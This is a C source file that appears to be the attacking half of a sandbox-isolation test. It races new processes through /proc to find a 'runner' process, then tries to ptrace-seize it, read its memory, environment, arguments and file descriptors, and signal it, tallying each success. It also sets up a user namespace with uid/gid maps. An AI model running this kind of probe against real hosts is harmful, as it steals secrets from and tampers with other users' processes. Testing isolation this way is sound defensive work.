/* The race itself: who is there, and what was got. */
#include "attacker.h"

#include <dirent.h>
#include <fcntl.h>
#include <sched.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/wait.h>
#include <unistd.h>

static const char *const NAMES[KINDS] = {
    "seen", "seized", "unfiltered", "made_to_call", "parameter", "vm_read", "vm_written", "mem", "maps", "environ", "exe", "root",
    "cwd", "fd", "ns", "getfd", "canary", "arguments", "signalled"
};
/* Process numbers end below this (`PID_MAX_LIMIT`). */
#define PIDS (1 << 22)
/* How far around the newest process it looks in each round. */
#define BEHIND 32
#define AHEAD 3

static uint8_t got[KINDS][PIDS / 8], done[PIDS / 8];
static long counts[KINDS];
static int is_apart, own, others[2];

static int has(const uint8_t *set, int pid) { return set[pid / 8] >> (pid % 8) & 1; }

void success(enum kind kind, int pid)
{
    if (!has(got[kind], pid)) {
        got[kind][pid / 8] |= (uint8_t)(1 << (pid % 8));
        counts[kind]++;
    }
}

static void try_process(int proc, int pid)
{
    char name[16];
    if (pid == own || pid == others[0] || pid == others[1] || pid <= 0 || pid >= PIDS || has(done, pid))
        return;
    /* Half of them are seized at once, half are looked at through files: the one would hide the other. */
    int seizes_first = pid >> 1 & 1;
    snprintf(name, sizeof name, "%d", pid);
    int folder = openat(proc, name, O_PATH | O_DIRECTORY | O_CLOEXEC);
    if (folder < 0)
        return;
    if (seizes_first && !try_seize(folder, pid))
        goto out;
    /* Who hides among a container's own processes is the runner, whatever its name. */
    if (is_named_as_runner(folder) || (is_apart && whose(folder) == HIDDEN)) {
        success(SEEN, pid);
        if (tries_arguments && has_secret(folder, "cmdline"))
            success(ARGUMENTS, pid);
        try_files(folder, pid);
        try_descriptors(folder, pid);
        if (kill(pid, 0) == 0)
            success(SIGNALLED, pid);
        if (!seizes_first)
            try_seize(folder, pid);
    } else if (whose(folder) == COMMANDS) {
        /* It has executed what it was to be. */
        done[pid / 8] |= (uint8_t)(1 << (pid % 8));
    }
out:
    close(folder);
}

/* The number of the newest process. */
static int newest(int loads)
{
    char text[128];
    ssize_t length = pread(loads, text, sizeof text - 1, 0);
    text[length > 0 ? length : 0] = 0;
    const char *last = strrchr(text, ' ');
    return last ? atoi(last) : 0;
}

int race(double seconds)
{
    int proc = open("/proc", O_RDONLY | O_DIRECTORY | O_CLOEXEC), loads = open("/proc/loadavg", O_RDONLY | O_CLOEXEC);
    if (proc < 0 || loads < 0)
        return 1;
    own = getpid();
    /* There is an init at most before it. */
    is_apart = own <= 2 || others[0] == 1;
    read_own_mounts();
    puts("ready");
    fflush(stdout);
    double end = now() + seconds, next_scan = 0;
    int before = newest(loads);
    for (unsigned round = 0; !over; round++) {
        if (round % 64 == 0 && now() > end)
            break;
        int last = newest(loads);
        if (last < before)
            memset(done, 0, sizeof done);
        for (int pid = before + 1; pid <= last + AHEAD && pid < PIDS; pid++)
            done[pid / 8] &= (uint8_t)~(1 << (pid % 8));
        before = last;
        for (int pid = last > BEHIND ? last - BEHIND : 1; pid <= last + AHEAD; pid++)
            try_process(proc, pid);
        if (round % 16 == 0 && now() > next_scan) {
            lseek(proc, 0, SEEK_SET);
            DIR *list = fdopendir(dup(proc));
            for (struct dirent *entry; list && (entry = readdir(list));)
                try_process(proc, atoi(entry->d_name));
            if (list)
                closedir(list);
            next_scan = now() + 0.01;
        }
    }
    for (int kind = 0; kind < KINDS; kind++)
        printf("%s=%ld\n", NAMES[kind], counts[kind]);
    puts("end");
    fflush(stdout);
    return 0;
}

/* Process 1 goes into a user namespace below the container's; comes back in a child that stays outside. */
int leave_process_1_inside(void)
{
    int inside[2], go[2];
    char byte = 0;
    if (pipe(inside) != 0 || pipe(go) != 0)
        return -1;
    others[0] = getpid();
    int child = fork();
    if (child < 0)
        return -1;
    if (child > 0) {
        int status;
        if (unshare(CLONE_NEWUSER) != 0) {
            perror("unshare");
            return -1;
        }
        if (write(inside[1], &byte, 1) != 1)
            return -1;
        for (;;) {
            if (waitpid(child, &status, 0) == child)
                _exit(WIFEXITED(status) ? WEXITSTATUS(status) : 1);
            /* Told to end: so is who attacks. */
            if (over)
                kill(child, SIGTERM);
        }
    }
    if (read(inside[0], &byte, 1) != 1)
        return -1;
    for (int index = 0; index < 2; index++) {
        char path[64];
        snprintf(path, sizeof path, "/proc/%d/%s_map", others[0], index ? "gid" : "uid");
        int map = open(path, O_WRONLY | O_CLOEXEC);
        if (map < 0 || write(map, "0 0 1", 5) != 5) {
            perror(path);
            return -1;
        }
        close(map);
    }
    return 0;
}
